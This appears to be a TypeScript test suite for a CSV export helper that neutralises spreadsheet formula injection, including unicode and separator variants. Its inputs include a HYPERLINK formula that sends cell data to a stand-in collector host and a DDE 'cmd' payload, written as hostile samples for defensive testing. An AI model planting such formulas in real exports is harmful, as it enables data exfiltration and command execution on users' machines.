import fc from 'fast-check';
import { parse } from 'papaparse';
import { csvLine, neutralizeFormula } from '@/lib/contract/platform/csv';
import { expectNone } from '../../guards/expect-none';
import { importsOf, product } from '../../guards/source-files';

const cellsOf = (line: string) => parse<string[]>(line).data[0];

test.each([
  '=1+1',
  '+1',
  '-1+2',
  '-cmd',
  '@SUM(A1)',
  ' =1',
  '\u00a0=1',
  '\u200b=1',
  '"=1"',
  "'=1",
  '“=1',
  '＝1',
  '＋1',
  '－A',
  '＠SUM',
  '　＝1',
  '=HYPERLINK("https://collector.example?"&A1)',
  "=cmd|'/c calc'!A1",
])('the cell %j is text to every spreadsheet (T87)', (text) => {
  expect(neutralizeFormula(text)).toBe(`'${text}`);
  expect(cellsOf(csvLine(['first', text, 'last']))).toEqual(['first', `'${text}`, 'last']);
});

test.each(['\t=1', '\r=1', '\n=1', '\tplain', '\rplain', '\nplain'])(
  'a cell that begins with the control sign of %j is text (T87)',
  (text) => expect(neutralizeFormula(text)).toMatch(/^'/),
);

// Where a semicolon parts cells, what stands behind one in a cell is a cell of its own.
test.each([
  [';=1', ";'=1"],
  ['a; =1', "a;' =1"],
  ['a\t@SUM(A1)', "a\t'@SUM(A1)"],
  ['first line\n=1', "first line\n'=1"],
])('behind a separator of another country %j is text as well (T87)', (text, harmless) =>
  expect(neutralizeFormula(text)).toBe(harmless),
);

test.each([
  '-1',
  '-12.50',
  '1.234,5',
  'Rao',
  'a-b',
  'a = b',
  'x@y.example',
  '',
  '1+1',
  'R&D',
  'Émile',
  '経理=部',
  '2025-03-05',
])('the harmless text %j stays as it is', (text) => expect(neutralizeFormula(text)).toBe(text));

test('numbers stay numbers, and cells keep commas, quotes and lines (RFC 4180)', () => {
  expect(csvLine([-5, 2.5, null, Number.NaN])).toBe('-5,2.5,,\r\n');
  const cells = ['Rao, Ananya', 'called "Anu"', 'two\r\nlines', 'a;b'];
  expect(csvLine(cells)).toBe('"Rao, Ananya","called ""Anu""","two\r\nlines","a;b"\r\n');
  expect(cellsOf(csvLine(cells))).toEqual(cells);
});

// What most cells are is told at one look, which must know every cell that another look would change.
test('a cell begins and goes on as the rules say, whatever it is made of (T87)', () => {
  const units = fc.constantFrom(...'=+-@;|,"\t\r\n\' aé経1_＝\u200b');
  fc.assert(
    fc.property(fc.string({ unit: units, maxLength: 8 }), (text) => {
      const neutral = neutralizeFormula(text);
      const quoted = /[",;\r\n\t]/.test(neutral) ? `"${neutral.replaceAll('"', '""')}"` : neutral;
      expect(csvLine([text])).toBe(`${quoted}\r\n`);
      const starts = [...text.matchAll(/(?<=^|[;|\t\r\n])[\s\u200b'"]*[=+\-@＝]/g)];
      if (starts.length > 0 && !/^-?\d+(?:[.,]\d+)*$/.test(text)) expect(neutral).not.toBe(text);
    }),
    { numRuns: 2_000 },
  );
});

/** Say what uploaded files are, or send what was pasted, and write none. */
const READS_ONLY = [
  'hr-api/platform/files/inspection/formats.ts',
  'components/profile/setup/lists/option-list-dialog.tsx',
];

test('whatever saves a table as csv writes its lines by the function for it (T87)', () => {
  const writers = product.filter(({ file, text }) => text.includes('text/csv') && !READS_ONLY.includes(file));
  expect(writers.map(({ file }) => file)).toContain('components/ui/table/export/export-rows.ts');
  const isSafe = (name: string) => /(lib\/contract\/platform\/csv|platform\/table-files\/csv-file)$/.test(name);
  const unsafe = writers.filter((one) => !importsOf(one).some(isSafe));
  expectNone(
    unsafe.map(({ file }) => file),
    'write each line by csvLine, or the file by csvOf',
  );
});
